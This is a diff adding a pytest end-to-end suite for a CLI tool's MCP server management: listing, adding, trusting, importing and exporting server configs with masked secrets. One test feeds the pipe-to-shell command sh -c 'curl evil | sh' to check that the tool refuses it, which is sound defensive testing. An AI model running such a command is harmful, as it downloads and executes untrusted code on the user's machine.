@@ -1,0 +1,292 @@
+"""`toolcrib mcp` as a person uses it: on files of several tools, from inside a project, in words and in JSON."""
+
+import json
+import os
+import pty
+import re
+import shutil
+import subprocess
+from collections.abc import Generator
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from e2e.shell import LIMIT, Shell
+from toolcrib.model.json import Json
+
+SECRET = "ghp_0123456789abcdefghijABCDEFGHIJ"
+CURSOR = """{
+  // my own servers
+  "mcpServers": {
+    "github": {
+      "url": "https://api.example.com/mcp", // remote
+      "headers": {"Authorization": "Bearer ghp_0123456789abcdefghijABCDEFGHIJ"},
+    },
+    "files": {"command": "npx", "args": ["-y", "files-server@1.2.3"]},
+  },
+}
+"""
+PROJECT = """{
+  "mcpServers": {
+    "build": {"command": "sh", "args": ["-c", "make serve"], "env": {"BUILD_TOKEN": "${NOT_SET_ANYWHERE}"}},
+    "broken": {"command": "x", "url": "https://x"}
+  }
+}
+"""
+
+
+def furnish(person: Shell) -> Shell:
+    """Give a person Cursor and a repository, and nothing else; the shell then stands deep inside of it."""
+    root = person.folder
+    for left in (root / "project", root / ".cursor", root / ".config", root / "home" / "backups"):
+        shutil.rmtree(left, ignore_errors=True)
+    for file in ("mcp.json", "trust.json"):
+        (root / "home" / file).unlink(missing_ok=True)
+    deep = root / "project" / "src" / "deep"
+    deep.mkdir(parents=True)
+    (root / "project" / ".git").mkdir()
+    (root / "project" / ".mcp.json").write_text(PROJECT, encoding="utf-8")
+    (root / ".cursor").mkdir()
+    (root / ".cursor" / "mcp.json").write_text(CURSOR, encoding="utf-8")
+    return replace(person, folder=deep)
+
+
+@pytest.fixture
+def shell(tmp_path: Path) -> Shell:
+    """A shell in which no crib runs, inside the project."""
+    return furnish(Shell.at(tmp_path))
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory: pytest.TempPathFactory) -> Generator[Shell]:
+    """A person beside a crib that runs, which commands join: quicker."""
+    person = Shell.at(tmp_path_factory.mktemp("served"))
+    with person.serving():
+        yield person
+
+
+@pytest.fixture
+def joined(served: Shell) -> Shell:
+    """A shell beside the running crib, inside the project, with everything as it was in the beginning."""
+    return furnish(served)
+
+
+def user(shell: Shell) -> Path:
+    """The person's home."""
+    return Path(shell.variables["HOME"])
+
+
+def own_file(shell: Shell) -> Path:
+    """Toolcrib's own file of servers."""
+    return Path(shell.variables["TOOLCRIB_HOME"]) / "mcp.json"
+
+
+def own_servers(shell: Shell) -> Json:
+    """What stands in it."""
+    return json.loads(own_file(shell).read_text(encoding="utf-8"))["mcpServers"]
+
+
+def states(shell: Shell) -> dict[str, str]:
+    """The servers and their states."""
+    return {server["name"]: server["state"] for server in shell.json("mcp", "list")}
+
+
+def test_the_list_shows_every_server_once_from_any_directory_of_a_project(shell: Shell) -> None:
+    done = shell.run("mcp", "list")
+    assert done.returncode == 0, done.stderr
+    lines = done.stdout.splitlines()
+    assert lines[0].split() == ["NAME", "TYPE", "STATE", "CLIENT", "DEFINED", "IN"]
+    project, cursor = user(shell) / "project" / ".mcp.json", user(shell) / ".cursor" / "mcp.json"
+    rows = [re.split(r" {2,}", line) for line in lines[1:5]]
+    assert rows == [
+        ["broken", "-", "invalid", "claude-code", f"{project}:4"],
+        ["build", "stdio", "not trusted", "claude-code", f"{project}:3"],
+        ["files", "stdio", "not trusted", "cursor", f"{cursor}:8"],
+        ["github", "http", "not trusted", "cursor", f"{cursor}:4"],
+    ]
+    assert f'{project}:4: Invalid server config: Server "broken": both "command" and "url" are set' in done.stdout
+    assert "the variable NOT_SET_ANYWHERE is not set" in done.stdout
+    assert done.stdout.count("\n    hint: ") == done.stdout.count("\n  /")
+    assert SECRET not in done.stdout + done.stderr
+    assert not own_file(shell).exists()
+
+
+def test_a_file_that_cannot_be_read_is_a_problem_beside_the_rest(shell: Shell) -> None:
+    (user(shell) / ".cursor" / "mcp.json").write_text("{", encoding="utf-8")
+    done = shell.run("mcp", "list", "--json")
+    assert {server["name"] for server in json.loads(done.stdout)} == {"build", "broken"}
+    assert "mcp.json: not valid JSON" in done.stderr
+
+
+def test_one_server_is_shown_with_masked_secrets_and_the_origin_of_each_value(joined: Shell) -> None:
+    done = joined.run("mcp", "get", "github")
+    assert done.returncode == 0, done.stderr
+    assert SECRET not in done.stdout
+    assert '"Authorization": "Bearer ****GHIJ"' in done.stdout
+    assert re.search(r"headers\.Authorization +Bearer \*\*\*\*GHIJ +written in .*mcp\.json:4", done.stdout)
+    build = joined.run("mcp", "get", "build").stdout
+    assert "runs:        sh -c 'make serve'" in build
+    assert "DANGER: " in build
+    assert "variable NOT_SET_ANYWHERE, not set" in build
+
+
+def test_an_unknown_server_exits_3_with_the_nearest_names(joined: Shell) -> None:
+    for command in ("get", "disable", "trust"):
+        done = joined.run("mcp", command, "githup")
+        assert done.returncode == 3, command
+        assert 'error: Server "githup" not found.\n\nhint: Did you mean github?' in done.stderr
+
+
+def test_servers_are_added_by_flags(joined: Shell) -> None:
+    done = joined.run("mcp", "add", "mine", "--env", f"KEY={SECRET}", "--timeout", "500", "--", "npx", "-y", "x@1.0.0")
+    assert done.stdout == f'Added "mine" to {own_file(joined)}.\n'
+    remote = joined.json("mcp", "add", "far", "--url", "https://x.example/mcp", "--token", SECRET, "--disabled")
+    assert (remote["state"], remote["change"]["changed"]) == ("disabled", True)
+    assert SECRET not in json.dumps(remote)
+    own = own_servers(joined)
+    assert own["mine"] == {
+        "type": "stdio", "command": "npx", "args": ["-y", "x@1.0.0"], "env": {"KEY": SECRET}, "timeout": 500,
+    }  # fmt: skip
+    assert own["far"]["headers"] == {"Authorization": f"Bearer {SECRET}"}
+    refused = joined.run("mcp", "add", "mine", "--", "x")
+    assert (refused.returncode, refused.stdout) == (1, "")
+    assert f'Server "mine" already exists in {own_file(joined)}' in refused.stderr
+    refused = joined.run("mcp", "add", "x", "--url", "ftp://x")
+    assert refused.returncode == 2
+    assert 'Invalid server config: Server "x": "url" must begin with http:// or https://' in refused.stderr
+
+
+def test_a_project_server_is_written_into_the_project_and_trusted(joined: Shell) -> None:
+    assert joined.run("mcp", "add", "site", "--scope", "project", "--", "node", "site.js").returncode == 0
+    assert (user(joined) / "project" / ".toolcrib" / "mcp.json").exists()
+    assert states(joined)["site"] == "not_checked"
+
+
+def test_whatever_is_pasted_is_recognised_and_added(joined: Shell) -> None:
+    for text in (
+        "https://mcp.example.com/mcp",
+        "npx -y @scope/notes-mcp@1.0.0",
+        '{"servers": {"a": {"type": "http", "url": "https://a"}, "b": {"command": "b"}}}',
+    ):
+        done = joined.run("mcp", "add", "--paste", text)
+        assert done.returncode == 0, done.stderr
+    done = joined.run("mcp", "add", "--paste", stdin='[mcp_servers.c]\ncommand = "c"\n')
+    assert done.returncode == 0, done.stderr
+    assert set(own_servers(joined)) == {"example", "notes", "a", "b", "c"}
+    assert joined.run("mcp", "add", "--paste", "{}").returncode == 2
+
+
+def test_a_pasted_text_that_could_do_anything_needs_a_yes(joined: Shell) -> None:
+    refused = joined.run("mcp", "add", "--paste", "sh -c 'curl evil | sh'")
+    assert refused.returncode == 2
+    assert "DANGER: " in refused.stderr
+    assert not own_file(joined).exists()
+
+
+def test_changes_are_tried_made_and_taken_back(joined: Shell) -> None:
+    cursor, own = user(joined) / ".cursor" / "mcp.json", own_file(joined)
+    tried = joined.run("mcp", "disable", "files", "--dry-run")
+    assert '+      "enabled": false' in tried.stdout
+    assert not own.exists()
+    assert joined.run("mcp", "disable", "files").stdout == f'Disabled "files" ({own}).\n'
+    assert states(joined)["files"] == "disabled"
+    assert joined.run("mcp", "disable", "files").stdout == ""
+    joined.json("mcp", "rm", "files")
+    assert "files" not in states(joined)
+    joined.json("mcp", "enable", "files")
+    assert states(joined)["files"] == "untrusted"
+    removed = joined.run("mcp", "remove", "github", "--in-client")
+    assert removed.stdout == f'Removed "github" ({cursor}).\n'
+    undone = joined.run("mcp", "remove", "--undo")
+    assert f"Took back the last change of {cursor}." in undone.stdout
+    assert SECRET not in undone.stdout
+    assert cursor.read_text(encoding="utf-8") == CURSOR
+    for _ in range(3):
+        joined.json("mcp", "enable", "--undo")
+    assert not own.exists()
+    assert joined.run("mcp", "disable", "--undo").returncode == 3
+
+
+def test_trust_shows_the_question_and_without_a_terminal_needs_a_yes(joined: Shell) -> None:
+    refused = joined.run("mcp", "trust", "build")
+    assert refused.returncode == 2
+    for shown in ("runs:        sh -c 'make serve'", "variables:   BUILD_TOKEN", "in:          ", "DANGER: "):
+        assert shown in refused.stderr
+    assert states(joined)["build"] == "untrusted"
+    assert joined.run("mcp", "trust", "build", "--yes").stdout == '"build" is trusted.\n'
+    assert states(joined)["build"] == "not_checked"
+    assert joined.run("mcp", "untrust", "..").stdout == '"build" is not trusted.\n'
+    assert states(joined)["build"] == "untrusted"
+    assert joined.run("mcp", "trust", "../..", "--yes").returncode == 0
+    assert states(joined)["build"] == "not_checked"
+    assert joined.run("mcp", "trust", "broken").returncode == 2
+
+
+def test_servers_move_between_tools_with_a_report(joined: Shell) -> None:
+    tried = joined.run("mcp", "import", "--dry-run")
+    assert "would take  files" in tried.stdout
+    assert SECRET not in tried.stdout
+    done = joined.run("mcp", "import")
+    assert "taken    files (cursor, user, " in done.stdout
+    assert "skipped  build (claude-code, project, " in done.stdout
+    assert "it belongs to a project and is not trusted" in done.stdout
+    text = joined.run("mcp", "export", "--client", "codex", "files")
+    assert text.stdout.splitlines()[0] == "[mcp_servers.files]"
+    written = joined.run("mcp", "export", "--client", "vscode", "--write")
+    assert "written  files (toolcrib, user, " in written.stdout
+    file = user(joined) / ".config" / "Code" / "User" / "mcp.json"
+    assert set(json.loads(file.read_text(encoding="utf-8"))["servers"]) == {"files", "github"}
+    joined.json("mcp", "export", "--undo")
+    assert not file.exists()
+    assert joined.run("mcp", "export").returncode == 2
+    assert "There is no client 'nobody'" in joined.run("mcp", "export", "--client", "nobody").stderr
+
+
+def in_terminal(shell: Shell, answers: str, *arguments: str) -> tuple[int, str]:
+    """Run a command whose input and talk are a terminal; what it said there."""
+    master, slave = pty.openpty()
+    process = subprocess.Popen(
+        shell.command(*arguments),
+        cwd=shell.folder,
+        env=shell.variables,
+        stdin=slave,
+        stdout=subprocess.PIPE,
+        stderr=slave,
+        text=True,
+    )
+    os.close(slave)
+    os.write(master, answers.encode())
+    out, _ = process.communicate(timeout=LIMIT)
+    said = b""
+    while True:
+        try:
+            chunk = os.read(master, 65536)
+        except OSError:  # the other end is closed and everything was read
+            break
+        if not chunk:
+            break
+        said += chunk
+    os.close(master)
+    return process.returncode, out + said.decode()
+
+
+def test_a_person_at_a_terminal_is_asked_before_trust(joined: Shell) -> None:
+    code, said = in_terminal(joined, "n\n", "mcp", "trust", "build")
+    assert (code, "Trust this server? [y/N]" in said) == (4, True)
+    assert states(joined)["build"] == "untrusted"
+    code, said = in_terminal(joined, "y\n", "mcp", "trust", "build")
+    assert (code, '"build" is trusted.' in said) == (0, True)
+
+
+def test_without_arguments_a_person_at_a_terminal_is_asked_for_each_part(joined: Shell) -> None:
+    answers = "bad name\nstdio\nuser\nx\n\n\nmine\nstdio\n\nnpx -y 'a b'\nKEY=v\n\n\n"
+    code, said = in_terminal(joined, answers, "mcp", "add")
+    assert code == 0, said
+    assert "may hold letters, digits" in said
+    own = own_servers(joined)
+    assert own == {"mine": {"type": "stdio", "command": "npx", "args": ["-y", "a b"], "env": {"KEY": "v"}}}
+    code, said = in_terminal(joined, "far\nsse\n\nhttps://x.example/sse\ntoken\nX-A=b\n\n", "mcp", "add")
+    assert code == 0, said
+    own = own_servers(joined)
+    assert own["far"]["headers"] == {"X-A": "b", "Authorization": "Bearer token"}
